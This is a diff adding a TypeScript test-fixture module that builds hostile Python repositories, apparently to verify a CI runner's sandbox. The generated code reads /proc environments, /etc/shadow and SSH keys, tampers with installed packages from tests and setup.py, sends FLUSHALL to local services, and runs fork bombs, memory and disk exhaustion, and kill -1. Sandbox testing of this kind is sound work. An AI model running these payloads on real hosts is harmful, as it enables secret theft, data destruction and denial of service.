@@ -1,0 +1,355 @@
+import type { Files } from './fixtureRepo.js';
+import { cleanProject } from './pythonProject.js';
+
+/** What a hostile repository is told about the host it runs on: the places it will try to reach. */
+export interface HostFacts {
+  cacheDir: string;
+  workDir: string;
+  artefactDir: string;
+  runnerSource: string;
+  runnerPid: number;
+  redisPort: number;
+  kafkaPort: number;
+  /** A name no other run uses, for the files and processes the hostile code tries to leave behind. */
+  marker: string;
+  /** Files outside the build holding the canary (their paths, never their content, are in the repository). */
+  canaryFiles: string[];
+}
+
+/** One hostile repository and what the runner must make of it. */
+export interface HostileCase {
+  name: string;
+  files: Files;
+  links?: Array<[string, string]>;
+  status: 'PASSED' | 'FAILED';
+  /** The report must say why: this must appear in its error or failed tests. */
+  reason?: RegExp;
+}
+
+const py = (...lines: string[]) => `${lines.join('\n')}\n`;
+
+// Records what each attack achieved in attacks.txt at the repository root (the artefact's source/attacks.txt).
+function probe(facts: HostFacts): string {
+  return py(
+    'import json',
+    'import os',
+    'import socket',
+    '',
+    `FACTS = json.loads(${JSON.stringify(JSON.stringify(facts))})`,
+    '',
+    '',
+    'def record(what, outcome):',
+    '    with open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "attacks.txt"), "a") as f:',
+    '        f.write(f"{what}\\t{outcome}\\n")',
+    '',
+    '',
+    'def try_write(path):',
+    '    try:',
+    '        with open(path, "a") as f:',
+    '            f.write("hostile\\n")',
+    '        record(path, "WROTE")',
+    '    except OSError as error:',
+    '        record(path, f"blocked {type(error).__name__}")',
+    '',
+    '',
+    'def try_services(where):',
+    '    for host in ("127.0.0.1", "10.0.2.2", "::1"):',
+    '        for port in (FACTS["redisPort"], FACTS["kafkaPort"]):',
+    '            family = socket.AF_INET6 if ":" in host else socket.AF_INET',
+    '            s = socket.socket(family)',
+    '            s.settimeout(2)',
+    '            try:',
+    '                s.connect((host, port))',
+    '                s.sendall(b"FLUSHALL\\r\\n")',
+    '                record(f"{where} {host}:{port}", "CONNECTED")',
+    '            except OSError as error:',
+    '                record(f"{where} {host}:{port}", f"blocked {type(error).__name__}")',
+    '            finally:',
+    '                s.close()',
+  );
+}
+
+function hostileTest(facts: HostFacts, ...body: string[]): Files {
+  return {
+    ...cleanProject(),
+    'pyproject.toml': pyproject(),
+    'tests/probe.py': probe(facts),
+    'tests/test_hostile.py': py(
+      'import os',
+      'import subprocess',
+      'import sys',
+      'import time',
+      '',
+      'import pytest',
+      '',
+      'sys.path.insert(0, os.path.dirname(__file__))',
+      'from probe import FACTS, record, try_services, try_write  # noqa: E402',
+      '',
+      '',
+      ...body,
+    ),
+  };
+}
+
+/** The clean project's pyproject.toml with lint off (the attacks are not formatted for black) and more tables. */
+function pyproject(...more: string[]): string {
+  return `${cleanProject()['pyproject.toml']}\n[tool.ci-runner]\nlint = false\n${more.join('\n')}\n`;
+}
+
+const withSix = (files: Files): Files => ({
+  ...cleanProject(),
+  'pyproject.toml': pyproject(),
+  'requirements.txt': 'six==1.17.0\n',
+  ...files,
+});
+
+// A fast test that checks the installed six against its own wheel's RECORD: the package is the genuine one.
+export function genuineSixTest(): Files {
+  return {
+    'tests/test_genuine.py': py(
+      'import base64',
+      'import hashlib',
+      'import importlib.metadata',
+      '',
+      'import pytest',
+      '',
+      '',
+      '@pytest.mark.fast',
+      'def test_six_is_the_genuine_wheel():',
+      '    import six',
+      '',
+      '    files = importlib.metadata.distribution("six").files',
+      '    entry = next(f for f in files if f.name == "six.py")',
+      '    with open(six.__file__, "rb") as handle:',
+      '        digest = hashlib.sha256(handle.read()).digest()',
+      '    encoded = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()',
+      '    assert entry.hash.value == encoded',
+      '    with open(six.__file__) as handle:',
+      '        assert "hostile" not in handle.read()',
+    ),
+  };
+}
+
+// Every attack the suite makes, each as its own repository.
+export function hostileCases(
+  facts: HostFacts,
+  scale: { bigFileGiB: number; memoryGiB: number },
+): HostileCase[] {
+  const outside = [
+    `/tmp/${facts.marker}`,
+    `${facts.workDir}/${facts.marker}`,
+    `/etc/${facts.marker}`,
+    `/root/${facts.marker}`,
+    `/usr/${facts.marker}`,
+    `${facts.cacheDir}/${facts.marker}`,
+    `${facts.cacheDir}/envs/${facts.marker}`,
+    `${facts.artefactDir}/${facts.marker}`,
+    `${facts.runnerSource}/${facts.marker}`,
+  ];
+  return [
+    {
+      name: 'read-secrets',
+      status: 'PASSED',
+      files: withSix(
+        hostileTest(
+          facts,
+          '@pytest.mark.fast',
+          'def test_read_what_the_runner_has():',
+          '    seen = [repr(dict(os.environ))]',
+          '    for name in os.listdir("/proc"):',
+          '        for part in ("environ", "cmdline"):',
+          '            try:',
+          '                seen.append(open(f"/proc/{name}/{part}", "rb").read().decode("latin1"))',
+          '            except OSError:',
+          '                pass',
+          '    record("/proc pids", " ".join(sorted(n for n in os.listdir("/proc") if n.isdigit())))',
+          '    targets = FACTS["canaryFiles"] + [FACTS["runnerSource"] + "/package.json", "/root/.ssh/id_rsa", "/etc/shadow"]',
+          '    for path in targets:',
+          '        try:',
+          '            seen.append(open(path).read())',
+          '            record(path, "READ")',
+          '        except OSError as error:',
+          '            record(path, f"blocked {type(error).__name__}")',
+          '    for path in (FACTS["cacheDir"], FACTS["runnerSource"], FACTS["workDir"], FACTS["artefactDir"], "/root"):',
+          '        try:',
+          '            record(path, "LISTED " + ",".join(sorted(os.listdir(path))))',
+          '        except OSError as error:',
+          '            record(path, f"blocked {type(error).__name__}")',
+          '    # Everything it could read goes where a careless runner would publish it.',
+          '    print("\\n".join(seen))',
+          '    with open("stolen.txt", "w") as handle:',
+          '        handle.write("\\n".join(seen))',
+        ),
+      ),
+    },
+    {
+      name: 'write-outside',
+      status: 'PASSED',
+      files: withSix(
+        hostileTest(
+          facts,
+          '@pytest.mark.fast',
+          'def test_write_everywhere():',
+          `    for path in ${JSON.stringify(outside)}:`,
+          '        try_write(path)',
+          '    import six',
+          '',
+          '    try_write(six.__file__)',
+          '    import sysconfig',
+          '',
+          '    try_write(os.path.join(sysconfig.get_paths()["purelib"], "hostile.pth"))',
+          '    # Remounting the read-only environment writable from a new user namespace.',
+          '    shell = f"mount -o remount,rw,bind {os.path.dirname(six.__file__)} && echo hostile >> {six.__file__}"',
+          '    done = subprocess.run(["unshare", "-rm", "sh", "-c", shell], capture_output=True)',
+          '    record("remount", "WROTE" if done.returncode == 0 else "blocked")',
+        ),
+      ),
+    },
+    {
+      name: 'poison-from-install-and-tests',
+      status: 'PASSED',
+      files: withSix({
+        ...hostileTest(
+          facts,
+          '@pytest.mark.fast',
+          'def test_reach_services_and_caches():',
+          '    try_services("test")',
+          '    try_write(FACTS["cacheDir"] + "/uv/hostile")',
+        ),
+        'pyproject.toml': pyproject(
+          '[build-system]',
+          'requires = ["setuptools>=61"]',
+          'build-backend = "setuptools.build_meta"',
+        ),
+        'setup.py': py(
+          'import os',
+          'import sys',
+          '',
+          'sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "tests"))',
+          'from probe import FACTS, try_services, try_write  # noqa: E402',
+          'from setuptools import setup  # noqa: E402',
+          '',
+          'try_services("setup.py")',
+          'for path in (FACTS["cacheDir"] + "/uv/hostile", FACTS["cacheDir"] + "/envs/hostile"):',
+          '    try_write(path)',
+          'setup(name="hostile-calc", version="0.1", packages=["calc"])',
+        ),
+      }),
+    },
+    {
+      name: 'fork-bomb',
+      status: 'FAILED',
+      reason: /process limit of \d+ reached|Resource temporarily unavailable|BlockingIOError/,
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        'def test_fork_bomb():',
+        '    bomb = "import os\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        pass\\n"',
+        '    subprocess.Popen([sys.executable, "-c", bomb])',
+        '    time.sleep(3)',
+        '    subprocess.run(["true"], check=True)',
+      ),
+    },
+    {
+      name: 'allocate-memory',
+      status: 'FAILED',
+      reason: /memory limit of \d+ MiB reached|MemoryError|killed by SIGKILL/,
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        `def test_allocate_${scale.memoryGiB}_gib():`,
+        `    hog = b"x" * (${scale.memoryGiB} << 30)`,
+        '    assert len(hog) > 0',
+      ),
+    },
+    {
+      name: 'huge-file',
+      status: 'FAILED',
+      reason: /test_write_a_huge_file|SIGXFSZ/,
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        'def test_write_a_huge_file():',
+        '    chunk = b"\\0" * (1 << 20)',
+        '    with open("huge.bin", "wb") as handle:',
+        `        for _ in range(${scale.bigFileGiB} << 10):`,
+        '            handle.write(chunk)',
+      ),
+    },
+    {
+      name: 'daemon',
+      status: 'PASSED',
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        'def test_leave_a_daemon():',
+        '    if os.fork() == 0:',
+        '        os.setsid()',
+        '        if os.fork() == 0:',
+        `            os.execvp("sleep", ["sleep", "${daemonSeconds(facts)}"])`,
+        '        os._exit(0)',
+        '    time.sleep(0.5)',
+      ),
+    },
+    {
+      name: 'kill-parent',
+      status: 'PASSED',
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        'def test_kill_what_it_can():',
+        '    import signal',
+        '',
+        '    for pid in (os.getppid(), 1, FACTS["runnerPid"]):',
+        '        try:',
+        '            os.kill(pid, signal.SIGKILL)',
+        '            record(f"kill {pid}", "SENT")',
+        '        except OSError as error:',
+        '            record(f"kill {pid}", f"blocked {type(error).__name__}")',
+        '    try:',
+        '        os.kill(-1, signal.SIGKILL)',
+        '    except OSError:',
+        '        pass',
+      ),
+    },
+    {
+      name: 'flood-stdout',
+      status: 'PASSED',
+      files: {
+        ...hostileTest(
+          facts,
+          '@pytest.mark.fast',
+          'def test_flood_stdout():',
+          '    line = b"flood " * 170 + b"\\n"',
+          '    for _ in range(200_000):',
+          '        os.write(1, line)',
+        ),
+        'pyproject.toml': pyproject().replace('lint = false', 'lint = false\npytest-args = ["-s"]'),
+      },
+    },
+    {
+      name: 'symlinks-out',
+      status: 'PASSED',
+      links: [
+        ['passwd', '/etc/passwd'],
+        ['canary', facts.canaryFiles[0] ?? '/root'],
+        ['requirements.txt', facts.canaryFiles[0] ?? '/root'],
+      ],
+      files: hostileTest(
+        facts,
+        '@pytest.mark.fast',
+        'def test_read_through_links():',
+        '    for link in ("passwd", "canary", "requirements.txt"):',
+        '        try:',
+        '            record(link, "CONTENT " + open(link).read().replace("\\n", " ")[:200])',
+        '        except OSError as error:',
+        '            record(link, f"blocked {type(error).__name__}")',
+      ),
+    },
+  ];
+}
+
+/** The unique `sleep` a daemon case leaves behind, to look for on the host afterwards. */
+export function daemonSeconds(facts: HostFacts): string {
+  return `9${facts.marker.replace(/\D/g, '').slice(0, 7).padEnd(7, '1')}`;
+}
